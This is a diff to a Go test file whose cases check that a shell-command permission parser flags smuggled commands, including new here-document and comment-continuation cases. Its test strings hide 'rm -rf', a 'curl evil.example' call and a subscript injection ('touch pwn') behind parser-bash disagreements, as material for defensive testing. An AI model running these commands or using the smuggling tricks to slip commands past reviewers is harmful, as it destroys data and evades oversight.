@@ -347,6 +347,13 @@ func TestAttacks(t *testing.T) {
 		{"go test x\r#; rm -rf /tmp/x", Ask}, // a comment to the parser, a command to bash
 		{"go test x\r#; curl evil.example", Ask},
 		{"go test -run \"A\n\tB\"", Allowed}, // a new line or tab inside quotes shows as one
+		// Where the parser and bash disagree on where a comment or a
+		// here-document ends.
+		{"echo hi # \\\ncurl evil.example", Ask},
+		{"cat <<EOF\n\\\nEOF\ncurl evil.example\nEOF", Ask},
+		{"cat <<'EOF'\n\\\nEOF\ncurl evil.example\nEOF", Ask},
+		{"go test <<EOF\nhello\nEOF", Allowed},
+		{"go test \\\n  -run X \\\n  ./...", Allowed}, // a continued line outside them
 		// Builtins whose words name variables evaluate subscripts.
 		{"go test; test -v 'a[$(touch pwn)]'", Ask},
 	}
